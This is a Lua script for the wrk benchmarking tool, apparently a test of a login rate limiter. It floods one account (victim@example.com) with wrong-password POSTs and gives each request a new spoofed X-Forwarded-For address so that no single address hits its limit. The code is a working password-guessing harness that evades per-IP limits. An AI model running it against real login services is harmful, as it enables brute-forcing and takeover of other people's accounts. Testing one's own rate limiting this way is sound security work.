-- wrk: wrong passwords for one account, each from a new address (X-Forwarded-For from
-- the trusted proxy), so that no address ever reaches its own limit; one request per
-- connection every `flood_delay_ms` (the attacker's rate, set by the script).
local n = 0
local delay_ms = tonumber(os.getenv("FLOOD_DELAY_MS") or "100")

request = function()
  n = n + 1
  local headers = {
    ["Content-Type"] = "application/json",
    ["X-Forwarded-For"] = string.format("10.%d.%d.%d", 200 + math.floor(n / 62500) % 50, math.floor(n / 250) % 250, n % 250 + 1),
  }
  return wrk.format("POST", nil, headers, '{"email":"victim@example.com","password":"guess ' .. n .. '"}')
end

delay = function()
  return delay_ms
end
